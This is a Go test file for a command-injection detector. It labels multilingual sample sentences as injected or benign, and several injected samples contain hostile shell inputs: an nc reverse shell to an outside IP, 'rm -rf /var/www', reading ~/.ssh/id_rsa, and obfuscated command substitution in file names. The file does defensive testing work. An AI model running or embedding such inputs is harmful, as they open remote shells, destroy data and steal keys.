package validate

import "testing"

func TestCmdISentenceBreakout(t *testing.T) {
	checkCmdI(t, []cmdiCase{
		{"could you check if db2.internal.example; uname -a is up", true},
		{"mi IP es 172.16.4.20 | nc 198.51.100.3 4444 -e /bin/sh gracias", true},
		{"bitte lade backup-2024.tar.gz && rm -rf /var/www hoch", true},
		{"мой логин ivan@example.org; cat ~/.ssh/id_rsa", true},
		{"la machine s'appelle web07 ; whoami", true},
		{"wat doet chmod +x build.sh && ./build.sh precies", false},
		{"cd src && make -j4; echo ok — why does echo run after a failure?", false},
		{"I moved to v2.3; cat lovers will like the new theme", false},
		{"release 1.4.2 | head of QA signed off", false},
		{"the build on node18 & ls output differ, weird", false},
		{"open index.html | less shows the raw markup", false},
		{"try ping 10.0.0.9 && ssh admin@10.0.0.9 and tell me", false},
	})
}

func TestCmdIGluedSubstitution(t *testing.T) {
	checkCmdI(t, []cmdiCase{
		{"please name the archive backup$(whoami).zip", true},
		{"mon domaine est shop`uname`.example.fr", true},
		{"nombre del fichero: acta-$(cat /etc/hostname).odt", true},
		{"$(whoami)", true},
		{"  $(printf aWQ= | base64 -d)  ", true},
		{";$(printf aWQ=|base64 -d)", true},
		{"docker run -v $(pwd):/src alpine ls /src is empty", false},
		{"in make, $(CC) -o $@ is the usual rule", false},
		{"what's the difference between $(cmd) and `cmd`?", false},
	})
}

func TestValueToken(t *testing.T) {
	for _, tc := range []struct {
		tok  string
		want bool
	}{
		{"10.0.0.5", true}, {"example.com", true}, {"me@x.org", true}, {"web01", true},
		{"photo.jpg", true}, {"build", false}, {"'*.py'", false}, {"v2.", false}, {"a", false},
		{"--flag", false},
	} {
		if got := valueToken(tc.tok); got != tc.want {
			t.Errorf("valueToken(%q) = %v, want %v", tc.tok, got, tc.want)
		}
	}
}

func TestReconThenPunctuation(t *testing.T) {
	for _, tc := range []struct {
		in, want string
	}{
		{"whoami, can you check", "whoami"},
		{"w^h^o^a^m^i. thanks", "whoami"},
		{"hostname? please", "hostname"},
		{"whoami can you check", ""}, // commandAt reads that one
		{"jerry, a classic", ""},
	} {
		if got := reconThenPunctuation(tc.in, 0); got != tc.want {
			t.Errorf("reconThenPunctuation(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}
